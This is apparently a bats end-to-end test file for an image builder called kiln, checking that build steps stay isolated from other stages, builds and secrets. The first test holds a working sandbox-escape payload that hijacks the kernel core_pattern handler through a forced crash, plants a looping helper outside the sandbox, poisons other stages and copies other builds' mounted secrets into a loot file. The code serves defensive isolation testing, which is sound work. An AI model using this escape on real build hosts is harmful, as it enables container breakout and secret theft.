#!/usr/bin/env bats
# What a step may not do to others: another stage, another build, or the step after it.
bats_require_minimum_version 1.5.0
# shellcheck disable=SC2016

setup_file() {
  export TOP
  TOP=$(mktemp -d "${TMPDIR:-/tmp}/kiln-isolation.XXXXXX")
  export KILN_HOME=$TOP/home KILN_ACCEL=${KILN_ACCEL:-tcg}
  . tests/e2e/common.bash
  share_appliance "$KILN_HOME"
  make_base "$TOP/base" base >&2
}

teardown_file() {
  . tests/e2e/common.bash
  no_leftovers "$KILN_HOME"
  rm -rf "$TOP"
}

setup() {
  DIR=$TOP/$BATS_TEST_NUMBER
  mkdir "$DIR"
}

# build [flags]: the Imagefile on stdin; image t<number>
build() {
  cat >"$DIR/Imagefile"
  "$KILN" image build --progress=plain --name "t$BATS_TEST_NUMBER" "$@" "$DIR"
}
inside() { "$KILN" shell "t$BATS_TEST_NUMBER" -c "$1"; }

@test "a RUN that leaves its sandbox reaches no other stage, no other build and no secret of theirs" {
  echo hidden >"$DIR/secret"
  # The kernel starts the helper beside the agent; it writes into whatever is the target afterwards, and
  # collects secrets.
  run build --secret id=s,src="$DIR/secret" <<'END'
FROM base AS evil
RUN <<EOF
mkdir -p /k /mnt && cp /bin/busybox /k/busybox
cat >/k/evil <<'X'
#!/tree/0/k/busybox sh
B=/tree/0/k/busybox
$B mkdir /kk
$B cp /tree/0/k/busybox /tree/0/k/loop /kk
echo "helper of $($B readlink /proc/1/exe)" >/tree/0/k/out
$B setsid /kk/busybox sh /kk/loop >/dev/null 2>&1 </dev/null &
X
cat >/k/loop <<'X'
while :; do
  /kk/busybox touch /tree/0/beat
  [ -d /tree/0/k ] || { [ -d /tree/0/bin ] && echo poisoned >/tree/0/poison; }
  [ -d /tree/0/k ] || for p in /proc/[0-9]*; do
    [ ! -f $p/root/run/secrets/s ] || /kk/busybox cat $p/root/run/secrets/s >/tree/0/loot
  done
  /kk/busybox usleep 10000
done
X
chmod 755 /k/evil
mount -t proc proc /mnt
echo '|/tree/0/k/evil' >/mnt/sys/kernel/core_pattern
ulimit -c unlimited
sh -c 'kill -SEGV $$'
timeout 60 sh -c 'while [ ! -e /beat ]; do usleep 1000; done'
cat /k/out
EOF
RUN rm /beat; usleep 300000; [ ! -e /beat ]
FROM base AS victim
RUN --mount=type=secret,id=s usleep 300000; echo clean >/clean
FROM base
COPY --from=evil /k/out /out
COPY --from=victim / /victim
RUN usleep 300000
END
  [ "$status" -eq 0 ]
  [[ $output == *'helper of /init'* ]] # the attack is a real one
  inside '[ -s /out ] && [ -e /victim/clean ] && ! ls /poison /loot /victim/poison /victim/loot 2>/dev/null'
  # another project, which takes the layer of the victim's stage
  mkdir "$DIR/other"
  printf '%s\n' 'FROM base' 'RUN --mount=type=secret,id=s usleep 300000; echo clean >/clean' >"$DIR/other/Imagefile"
  run "$KILN" image build --name other --require-cached "$DIR/other"
  [ "$status" -eq 0 ]
  "$KILN" shell other -c '[ ! -e /poison ]'
}

@test "a RUN sees no disk that it did not ask for" {
  run build <<'END'
FROM base AS one
RUN echo one >/one
FROM base
RUN cat /proc/partitions >/before
COPY --from=one /one /one
RUN --mount=type=cache,target=/c echo x >/c/x
RUN cat /proc/partitions >/after; cmp /before /after
END
  [ "$status" -eq 0 ]
}
